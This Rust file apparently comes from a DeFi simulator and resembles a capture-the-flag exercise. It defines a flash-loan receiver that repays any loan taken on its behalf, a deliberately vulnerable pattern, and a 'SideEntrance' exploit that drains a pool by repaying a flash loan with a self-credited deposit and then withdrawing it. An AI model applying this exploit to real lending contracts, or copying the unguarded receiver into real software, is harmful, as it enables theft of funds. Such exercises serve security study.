use {
  defisim_primitives::{Address, Asset, Callback, Operation},
  defisim_vm::{Context, Error, FlashLoan, Program},
};

/// Pays back principal and fee of every loan it receives, no matter
/// who took the loan on its behalf.
pub struct NaiveReceiver;

impl Program for NaiveReceiver {
  fn call(
    &self,
    _ctx: &mut Context<'_>,
    _caller: Address,
    _payload: &[u8],
  ) -> Result<(), Error> {
    Ok(())
  }

  fn on_flash_loan(
    &self,
    ctx: &mut Context<'_>,
    loan: &FlashLoan,
  ) -> Result<(), Error> {
    ctx.invoke(Operation::Transfer {
      asset: loan.asset,
      to: loan.pool,
      amount: loan.amount.saturating_add(loan.fee),
    })
  }
}

/// Borrows the whole pool, repays it through a deposit credited to
/// itself, withdraws the deposit and hands the proceeds to its caller.
pub struct SideEntrance {
  pub pool: Address,
  pub asset: Asset,
}

impl Program for SideEntrance {
  fn call(
    &self,
    ctx: &mut Context<'_>,
    caller: Address,
    _payload: &[u8],
  ) -> Result<(), Error> {
    let amount = ctx.max_loanable(&self.pool)?;
    ctx.invoke(Operation::FlashLoan {
      pool: self.pool,
      amount,
      receiver: ctx.self_address(),
      callback: Callback::Program,
    })?;
    ctx.invoke(Operation::Withdraw { pool: self.pool })?;

    let loot = ctx.balance(&ctx.self_address(), &self.asset);
    ctx.invoke(Operation::Transfer {
      asset: self.asset,
      to: caller,
      amount: loot,
    })
  }

  fn on_flash_loan(
    &self,
    ctx: &mut Context<'_>,
    loan: &FlashLoan,
  ) -> Result<(), Error> {
    ctx.invoke(Operation::Deposit {
      pool: loan.pool,
      amount: loan.amount,
    })
  }
}
